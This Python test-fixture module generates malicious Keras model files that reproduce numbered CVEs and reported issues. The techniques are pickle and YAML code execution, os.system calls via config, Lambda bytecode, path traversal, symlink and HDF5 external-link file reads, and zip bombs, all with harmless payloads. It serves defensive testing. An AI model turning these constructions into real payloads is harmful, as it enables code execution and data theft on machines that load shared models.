"""Files that do harm when Keras of some version opens them, made anew in each test.

Where one would run code, that code makes a file called `ran` beside the hostile one. Where one would read another
file, that is `secret`, with sixteen bytes.
"""

import base64
import io
import json
import marshal
import pickle
import zipfile

import h5py
import numpy as np

SECRET = b"0123456789abcdef"
DENSE = {
    "module": "keras.layers", "class_name": "Dense", "registered_name": None,
    "config": {"name": "dense", "units": 1, "activation": "linear"},
}  # fmt: skip


def entry(module, class_name, config, **more):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None} | more


def stack(*layers, **more):
    """The configuration of a Sequential with an Input of four features."""
    first = entry("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
    return entry("keras", "Sequential", {"name": "net", "trainable": True, "layers": [first, *layers]}, **more)


def hdf5(build=lambda file: None, **options):
    """The bytes of an HDF5 file that `build` fills."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w", **options) as file:
        build(file)
    return buffer.getvalue()


def fitting(file):
    """The weights of `stack(DENSE)`."""
    file["layers/dense/vars/0"] = np.ones((4, 1), "f4")
    file["layers/dense/vars/1"] = np.ones(1, "f4")
    file["layers/dense/vars"].attrs["name"] = "dense"


def weights_file(folder, build):
    """A file of weights alone."""
    (folder / "model.weights.h5").write_bytes(hdf5(build))
    return folder / "model.weights.h5"


def keras_file(folder, config=None, weights=None, members=(), name="model.keras", method=zipfile.ZIP_STORED):
    """A `.keras` file with that configuration, those weights, and more members, by name or by ZipInfo."""
    with zipfile.ZipFile(folder / name, "w", method) as file:
        file.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}))
        file.writestr("config.json", json.dumps(config or stack(DENSE)))
        file.writestr("model.weights.h5", hdf5(fitting) if weights is None else weights)
        for member, content in members:
            file.writestr(member, content)
    return folder / name


def legacy_file(folder, config):
    """A whole model in the format of Keras 2."""

    def build(file):
        file.attrs["keras_version"], file.attrs["backend"] = "3.11.2", "jax"
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": config["config"]})
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = ["lambda"]
        group.create_group("lambda").attrs["weight_names"] = []

    (folder / "model.h5").write_bytes(hdf5(build))
    return folder / "model.h5"


def bytecode(folder):
    """A function of one tensor that makes the file `ran`, as Keras stores a lambda."""
    source = f"lambda x: (open({str(folder / 'ran')!r}, 'w').close(), x)[1]"
    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode()


def lambda_layer(folder):
    function = {"class_name": "__lambda__", "config": {"code": bytecode(folder), "defaults": None, "closure": None}}
    return entry("keras.layers", "Lambda", {"name": "lambda", "function": function, "arguments": {}})


def old_lambda_layer(folder):
    function = {"function": [bytecode(folder), None, None], "function_type": "lambda", "module": "__main__"}
    return {"class_name": "Lambda", "config": {"name": "lambda", "arguments": {}} | function}


def calls(*nodes):
    """The configuration of a Functional model whose nodes call functions: (module, function, arguments)."""
    first = {"batch_shape": [None, 4], "dtype": "float32", "name": "in"}
    layers = [entry("keras.layers", "InputLayer", first, name="in", inbound_nodes=[])]
    for number, (module, function, arguments) in enumerate(nodes):
        node = {"args": arguments, "kwargs": {}} if isinstance(arguments, list) else {"args": [], "kwargs": arguments}
        more = {"registered_name": function, "name": f"call_{number}", "inbound_nodes": [node]}
        layers.append(entry(module, "function", function, **more))
    end = [["in", 0, 0]]
    config = {"name": "net", "trainable": True, "layers": layers, "input_layers": end, "output_layers": end}
    return entry("keras.src.models.functional", "Functional", config, registered_name="Functional")


class MakesRan:
    def __init__(self, folder):
        self.folder = folder

    def __reduce__(self):
        return exec, (f"open({str(self.folder / 'ran')!r}, 'w').close()",)


# By their numbers


def cve_2021_37678(folder):
    """A model in YAML, whose parser made objects of any class."""
    text = f"!!python/object/apply:os.system ['touch {folder}/ran']\n"
    (folder / "model.yaml").write_text(text)
    return folder / "model.yaml"


def cve_2024_3660(folder):
    """The bytecode of a Lambda layer, in Keras 2.12 and before."""
    return keras_file(folder, stack(lambda_layer(folder)))


def cve_2025_1550(folder):
    """A call of any function of any module."""
    return keras_file(folder, calls(("os", "system", [f"touch {folder}/ran"])))


def cve_2025_1550_in_a_stack(folder):
    """The same function in place of a layer."""
    return keras_file(folder, stack(entry("os", "function", "system", registered_name="system", name="call")))


def cve_2025_8747(folder):
    """A call of a function of Keras's own that writes a file anywhere."""
    (folder / "secret").write_bytes(SECRET)
    told = {"fname": "ran", "origin": f"file://{folder}/secret", "cache_dir": str(folder), "cache_subdir": ""}
    return keras_file(folder, calls(("keras.utils", "get_file", told)))


def cve_2025_9905(folder):
    """The bytecode of a Lambda layer in a legacy file, for which the safe mode did not count."""
    return legacy_file(folder, stack(old_lambda_layer(folder)))


def cve_2025_9906(folder):
    """A call of Keras's own function that switches the safe mode off, and then a Lambda layer."""
    unsafe = ("keras.config", "enable_unsafe_deserialization", [])
    return keras_file(folder, calls(unsafe, ("keras.ops", "identity", [stack(lambda_layer(folder))])))


def cve_2025_12058(folder):
    """A vocabulary that is the name of a file, or an address."""
    (folder / "secret").write_bytes(SECRET)
    return keras_file(folder, stack(lookup(str(folder / "secret"))))


def lookup(vocabulary):
    config = {"name": "string_lookup", "vocabulary": vocabulary, "max_tokens": None, "num_oov_indices": 1}
    return entry("keras.layers", "StringLookup", config)


def cve_2025_49655(folder):
    """A module of torch's, which is a pickle."""
    module = base64.b64encode(pickle.dumps(MakesRan(folder))).decode()
    wrapper = {"name": "torch", "module": module, "output_shape": None}
    return keras_file(folder, stack(entry("keras.layers", "TorchModuleWrapper", wrapper)))


def cve_2026_0897(folder):
    """A dataset of eight gigabytes of which nothing is stored."""

    def build(file):
        file.create_dataset("layers/dense/vars/0", (2**31, 1), "f4", chunks=(2**20, 1), compression="gzip")
        file["layers/dense/vars/1"] = np.ones(1, "f4")

    return keras_file(folder, weights=hdf5(build))


def cve_2026_1462(folder):
    """A program of TensorFlow's that lies elsewhere."""
    config = {"name": "tfsm", "filepath": str(folder / "program"), "call_endpoint": "serve"}
    return keras_file(folder, stack(entry("keras.layers", "TFSMLayer", config)))


def cve_2026_1669_external_storage(folder):
    """A dataset whose bytes are those of another file."""
    (folder / "secret").write_bytes(SECRET)

    def build(file):
        kernel = [(str(folder / "secret"), 0, len(SECRET))]
        file.create_dataset("layers/dense/vars/0", (4, 1), "f4", external=kernel)
        file["layers/dense/vars/1"] = np.ones(1, "f4")

    return keras_file(folder, weights=hdf5(build))


def other_file(folder):
    (folder / "secret").write_bytes(hdf5(fitting))
    return str(folder / "secret")


def cve_2026_1669_external_link(folder):
    """A dataset in another file."""
    other = other_file(folder)
    links = {name: h5py.ExternalLink(other, f"layers/dense/vars/{name}") for name in "01"}
    return weights_file(folder, lambda file: file.create_group("layers/dense/vars").update(links))


def cve_2026_1669_group(folder):
    """A group in another file, halfway to the dataset."""
    link = h5py.ExternalLink(other_file(folder), "layers")
    return weights_file(folder, lambda file: file.update({"layers": link}))


def cve_2026_1669_virtual(folder):
    """A dataset put together from other files."""
    layout = h5py.VirtualLayout((4, 1), "f4")
    layout[:] = h5py.VirtualSource(other_file(folder), "layers/dense/vars/0", (4, 1))

    def build(file):
        file.create_virtual_dataset("layers/dense/vars/0", layout)
        file["layers/dense/vars/1"] = np.ones(1, "f4")

    return weights_file(folder, build)


def cve_2026_12479(folder):
    """A layer whose name leads out of the folder in which its vocabulary is written."""
    layer = lookup(["a", "b"])
    layer["config"]["name"] = "../../ran"
    return keras_file(folder, stack(layer))


def cve_2026_12481(folder):
    """A configuration with bytecode for `from_config`, `deserialize` and `clone_model`, which have no safe mode."""
    (folder / "config.json").write_text(json.dumps(stack(lambda_layer(folder))))
    return folder / "config.json"


def ghsa_hqp4_2352_xf5r(folder):
    """A member whose path leads out of the folder in which the archive is unpacked."""
    members = [("assets/../../ran", b""), ("assets/layers/string_lookup/vocabulary.txt", b"a")]
    return keras_file(folder, members=members)


# Those without a number


def link_in_archive(folder):
    """keras#23015: a symbolic link in the archive, whose target is read."""
    (folder / "secret").write_bytes(SECRET)
    link = zipfile.ZipInfo("assets/layers/string_lookup/vocabulary.txt")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return keras_file(folder, members=[(link, str(folder / "secret"))])


def zip_bomb_of_weights(folder):
    """keras#23010: a deflated member that becomes two gigabytes (here 200 MB)."""
    bomb = hdf5(lambda file: file.create_dataset("layers/dense/vars/0", data=np.zeros((50_000_000, 1), "f4")))
    return keras_file(folder, weights=bomb, method=zipfile.ZIP_DEFLATED)


def zip_bomb_of_assets(folder):
    """keras#23101: the same in a vocabulary."""
    name = "assets/layers/string_lookup/vocabulary.txt"
    return keras_file(folder, members=[(name, bytes(50_000_000))], method=zipfile.ZIP_DEFLATED)


def pickle_in_npz(folder):
    """keras#23026: an array of objects, which is a pickle."""
    buffer = io.BytesIO()
    np.savez(buffer, a=np.array([MakesRan(folder)], dtype=object))
    path = keras_file(folder, name="whole.keras")
    with zipfile.ZipFile(path) as whole, zipfile.ZipFile(folder / "model.keras", "w") as file:
        file.writestr("config.json", whole.read("config.json"))
        file.writestr("model.weights.npz", buffer.getvalue())
    return folder / "model.keras"


def unzipped(folder):
    """A genuine model as a folder."""
    (folder / "model").mkdir()
    with zipfile.ZipFile(keras_file(folder)) as file:
        file.extractall(folder / "model")
    return folder / "model"


def hard_link_in_folder(folder):
    """keras#22973: a vocabulary that is a hard link to a file elsewhere."""
    (folder / "secret").write_bytes(SECRET)
    assets = unzipped(folder) / "assets" / "layers" / "string_lookup"
    assets.mkdir(parents=True)
    (assets / "vocabulary.txt").hardlink_to(folder / "secret")
    return folder / "model"


def linked_file_in_folder(folder):
    """KERAS-MFV-001: assets that lie outside the folder."""
    (folder / "secret").write_bytes(SECRET)
    (unzipped(folder) / "assets").mkdir()
    (folder / "model" / "assets" / "vocabulary.txt").symlink_to(folder / "secret")
    return folder / "model"


def linked_folder_in_folder(folder):
    """KERAS-MFV-001: a folder of assets that is a link."""
    (folder / "elsewhere").mkdir()
    (folder / "elsewhere" / "secret").write_bytes(SECRET)
    (unzipped(folder) / "assets").symlink_to(folder / "elsewhere")
    return folder / "model"
